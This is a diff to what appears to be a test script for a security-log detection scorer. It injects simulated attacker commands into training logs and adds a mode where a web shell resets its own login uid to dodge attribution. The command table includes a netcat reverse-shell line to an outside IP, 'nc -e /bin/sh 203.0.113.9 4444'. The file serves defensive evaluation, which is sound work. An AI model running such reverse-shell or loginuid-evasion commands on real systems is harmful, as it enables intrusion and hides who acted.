@@ -1,8 +1,10 @@
-// node scripts/person-mimicry.js ROOT [www [login]] (review7, docs/hardening.md): the scenario set
+// node scripts/person-mimicry.js ROOT [www [login [selfset]]] (review7, docs/hardening.md): the scenario set
 // (seed 11, 21 days) plus one story per ATT&CK technique, each a single labelled exec of a
 // person account in a fresh office SSH session (ops on edge-web, omar on pg-main), or with
 // `www` of www-data under php-fpm; `login` adds one login record of www-data on day 3 to the
-// training logs. ROOT is a built worktree (compare builds of two commits). Prints each row.
+// training logs; `selfset` has the web shell write its own login uid first (review9: an
+// unprivileged process whose loginuid is unset may set it, once, to any uid: here its own, 33).
+// ROOT is a built worktree (compare builds of two commits). Prints each row.
 const root = require('path').resolve(process.argv[2]);
 const path = require('path'),
   fs = require('fs');
@@ -11,6 +13,8 @@ const { runEval } = require(root + '/dist/scorer/eval/run');
 const { generateScenarios } = require(root + '/dist/scorer/eval/scenarios/generate');
 const { ATTACKS } = require(root + '/dist/scorer/eval/scenarios/stories');
 const WWW = process.argv[3] === 'www';
+// `selfset` writes its own uid, `selfset:1003` another account's (ops, who logs in)
+const SELF_SET = /^selfset(?::(\d+))?$/.exec(process.argv[5] ?? '');
 const T = WWW
   ? [
       ['edge-web', 'www-data', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
@@ -65,6 +69,8 @@ T.forEach(([host, who, exe, cmd, o], i) =>
       if (WWW) {
         const fpm = h.exec(t, 'www-data', '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', '950', { cwd: '/var/www/shop' });
         h.exec(t + 60, who, exe, cmd, fpm, { story: this.id, cwd: '/var/www/shop' });
+        // `echo 33 > /proc/self/loginuid` in the php worker: every process it starts carries it
+        if (SELF_SET) h.rows[h.rows.length - 1].columns.auid = SELF_SET[1] ?? '33';
         return;
       }
       h.login(t, who, host === 'pg-main' ? '10.40.8.37' : '10.40.8.44');
@@ -74,7 +80,7 @@ T.forEach(([host, who, exe, cmd, o], i) =>
   }),
 );
 (async () => {
-  const out = '/tmp/r7/pool-' + path.basename(root) + (process.argv[3] || '');
+  const out = '/tmp/r7/pool-' + path.basename(root) + process.argv.slice(3).join('-');
   const inject = process.argv[4] === 'login';
   const set = generateScenarios({ seed: 11, days: 21, start: 1767225600 });
   fs.mkdirSync(out, { recursive: true });
@@ -107,9 +113,9 @@ T.forEach(([host, who, exe, cmd, o], i) =>
   set.testStory.forEach((id, i) => {
     if (!id.startsWith('r7-')) return;
     const s = scored[i];
-    const [, who, , cmd] = T[Number(id.slice(3))];
+    const [, , , cmd] = T[Number(id.slice(3))];
     console.log(
-      `${who.padEnd(5)} ${cmd.slice(0, 48).padEnd(48)} ${s.score === null ? 'NULL ' : s.score.toFixed(3)} ${s.model.padEnd(12)} ${s.reasons.slice(0, 150)}`,
+      `${s.subject.padEnd(5)} ${cmd.slice(0, 48).padEnd(48)} ${s.score === null ? 'NULL ' : s.score.toFixed(3)} ${s.model.padEnd(12)} ${s.reasons.slice(0, 150)}`,
     );
   });
 })().catch((e) => {
